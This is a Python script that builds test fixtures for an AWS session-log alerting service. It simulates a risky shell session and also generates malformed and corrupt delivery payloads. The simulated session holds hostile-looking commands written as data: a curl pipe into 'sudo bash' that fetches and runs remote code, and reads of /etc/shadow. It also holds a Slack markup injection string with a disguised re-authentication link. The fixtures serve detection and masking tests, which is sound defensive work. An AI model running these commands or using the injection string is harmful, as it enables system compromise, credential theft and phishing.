"""Build the alert-path fixtures in events/alerts-*.json (real subscription format: gzip + base64 of the payload).

Run from the repository root after changing a case below:
    .venv/bin/python tests/functional/make_alert_fixtures.py
The JSON it writes is committed; test_session_alerts.py reads the files and checks they still agree with this.
"""

from __future__ import annotations

import base64
import gzip
import json
import sys
from functools import partial
from pathlib import Path
from typing import Any

if __name__ == "__main__":  # run as a script (above): `tests` is importable from the repository root
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

# The session-log fixtures' subscription format, names and session events: these payloads are the same kind.
from tests.unit.make_event_fixtures import (
    ACCOUNT_ID,
    FILTER_NAME,
    LOG_GROUP,
    awslogs,
    event_id,
    timestamp_ms,
    write_json,
)
from tests.unit.make_event_fixtures import session_event as any_session_event

RISKY_SESSION = "bob.smith-0c1d2e3f4a5b6c7d8"
RISKY_INSTANCE = "i-0fedcba9876543210"
BROKEN_SESSION = "carol.ops-0d9e8f7a6b5c4d3e2"

# Secrets typed in the risky session; no delivery path may ever show them.
# Not AWS's documented example key, which the masker leaves readable as a stand-in (docs/masking.md).
SECRETS = ("S3cr3t-Db-Passw0rd", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY")
# Slack markup typed in a command: must arrive escaped, never as a mention or a disguised link.
INJECTION = "<!channel> <https://evil.example/login|Re-authenticate here> & @here ``` done"


# The alert samples' users work in the Ops role.
session_event = partial(any_session_event, role="Ops")


def data_message(stream: str, records: list[tuple[str, Any]]) -> dict[str, Any]:
    """A DATA_MESSAGE; each record is (eventTime for the timestamp, the log event's message or a raw record)."""
    log_events = []
    for index, (time, message) in enumerate(records):
        stamp = timestamp_ms(time)
        if isinstance(message, str):
            log_events.append({"id": event_id(stamp, index), "timestamp": stamp, "message": message})
        else:
            log_events.append(message)  # a raw record, for the malformed cases
    return awslogs(
        {
            "messageType": "DATA_MESSAGE",
            "owner": ACCOUNT_ID,
            "logGroup": LOG_GROUP,
            "logStream": stream,
            "subscriptionFilters": [FILTER_NAME],
            "logEvents": log_events,
        }
    )


def risky_events() -> list[dict[str, Any]]:
    def event(time: str, lines: list[str]) -> dict[str, Any]:
        return session_event(RISKY_SESSION, time, lines, instance=RISKY_INSTANCE, user="bob.smith")

    prompt = "[ssm-user@ip-10-0-4-9 ~]$ "
    return [
        event("2026-11-26T15:00:01Z", ["sh-4.2$ bash"]),
        event("2026-11-26T15:00:05Z", [prompt + "whoami", "ssm-user"]),
        event("2026-11-26T15:00:09Z", [prompt + "curl -s https://get.example.com/install.sh | sudo bash", "done"]),
        event(
            "2026-11-26T15:00:14Z",
            [prompt + f"mysql -h db.internal -u admin -p{SECRETS[0]} -e 'show databases'", "Database", "app"],
        ),
        event("2026-11-26T15:00:20Z", [prompt + f"export AWS_SECRET_ACCESS_KEY={SECRETS[1]}"]),
        event(
            "2026-11-26T15:00:26Z", [prompt + f"cat /etc/shadow # {INJECTION}", "cat: /etc/shadow: Permission denied"]
        ),
        event("2026-11-26T15:00:31Z", [prompt + "sudo cat /etc/shadow | head -n 1", "root:*LOCK*:19000:0:99999:7:::"]),
        event("2026-11-26T15:00:36Z", [prompt + "exit", "exit", "sh-4.2$ exit", "exit"]),
    ]


def risky_session() -> dict[str, Any]:
    return data_message(RISKY_SESSION, [(e["eventTime"], json.dumps(e)) for e in risky_events()])


def malformed_batch() -> dict[str, Any]:
    """Good events with every kind of bad record between them, in one delivery."""

    def good(time: str, lines: list[str]) -> str:
        return json.dumps(session_event(BROKEN_SESSION, time, lines, instance="i-0aaa1111bbbb2222c", user="carol"))

    secret = f"export AWS_SECRET_ACCESS_KEY={SECRETS[1]}"
    huge_line = "sh-4.2$ echo " + "A" * (1024 * 1024)
    return data_message(
        BROKEN_SESSION,
        [
            ("2026-11-26T16:00:01Z", good("2026-11-26T16:00:01Z", ["sh-4.2$ cat /etc/shadow"])),
            ("2026-11-26T16:00:02Z", secret),  # not JSON at all
            ("2026-11-26T16:00:03Z", json.dumps({"sessionData": [secret]})),  # no sessionId
            ("2026-11-26T16:00:04Z", json.dumps({"sessionId": BROKEN_SESSION, "sessionData": secret})),  # not a list
            ("2026-11-26T16:00:05Z", "\x00\x01\x02\xff\xfe\x1b[2J\ud800 binary junk \x7f\x9b"),  # binary junk
            (
                "2026-11-26T16:00:06Z",
                {"id": "17956944060000000000000000000000000000000000000000000005", "timestamp": 7},
            ),
            ("2026-11-26T16:00:07Z", 42),  # a record that is not an object
            ("2026-11-26T16:00:08Z", good("2026-11-26T16:00:08Z", [huge_line])),  # a 1 MB sessionData line
            ("2026-11-26T16:00:09Z", good("2026-11-26T16:00:09Z", ["sh-4.2$ exit", "exit"])),
        ],
    )


def corrupt_payloads() -> dict[str, Any]:
    """Invocations whose payload cannot be decoded at all, by name."""
    secret = f"export AWS_SECRET_ACCESS_KEY={SECRETS[1]}".encode()
    return {
        "corrupt-base64": {"awslogs": {"data": "%%%not base64%%%" + secret.decode()}},
        "bad-gzip": {"awslogs": {"data": base64.b64encode(secret).decode()}},
        "truncated-gzip": {"awslogs": {"data": base64.b64encode(gzip.compress(secret, mtime=0)[:20]).decode()}},
        "gzip-not-json": {"awslogs": {"data": base64.b64encode(gzip.compress(secret, mtime=0)).decode()}},
        "json-not-a-payload": awslogs({"logEvents": [secret.decode()]}),
        "no-awslogs": {"records": [secret.decode()]},
        "log-events-not-a-list": awslogs(
            {
                "messageType": "DATA_MESSAGE",
                "owner": ACCOUNT_ID,
                "logGroup": LOG_GROUP,
                "logStream": "s",
                "logEvents": 7,
            }
        ),
    }


def lambda_on_failure_record() -> dict[str, Any]:
    """What Lambda's on-failure destination writes to the failure queue after the last retry."""
    return {
        "version": "1.0",
        "timestamp": "2026-11-26T15:03:12.345Z",
        "requestContext": {
            "requestId": "6b1c2d3e-4f5a-6b7c-8d9e-0f1a2b3c4d5e",
            "functionArn": "arn:aws:lambda:us-east-1:123456789012:function:sessionguard-SessionAlertsFunction-Ab12Cd34",
            "condition": "RetriesExhausted",
            "approximateInvokeCount": 3,
        },
        "requestPayload": risky_session(),
        "responseContext": {"statusCode": 200, "executedVersion": "$LATEST", "functionError": "Unhandled"},
        "responsePayload": {
            "errorMessage": "deliveries failed (slack x4); the invocation will be retried",
            "errorType": "DeliveryFailed",
        },
    }


def main() -> None:
    write_json("alerts-risky-session.json", risky_session())
    write_json("alerts-malformed-batch.json", malformed_batch())
    write_json("alerts-corrupt-payloads.json", corrupt_payloads())
    write_json("alerts-lambda-on-failure.json", lambda_on_failure_record())


if __name__ == "__main__":
    main()
